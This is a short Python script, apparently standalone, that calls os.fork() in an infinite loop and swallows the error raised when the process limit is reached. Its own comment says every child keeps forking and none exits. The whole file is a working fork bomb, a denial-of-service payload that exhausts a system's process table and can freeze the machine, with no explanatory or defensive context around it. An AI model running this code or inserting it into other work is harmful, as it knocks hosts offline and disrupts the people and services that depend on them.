import os as _os

while True:  # every child forks too, until the process cap stops them; none ever exits
    try:
        _os.fork()
    except OSError:
        pass
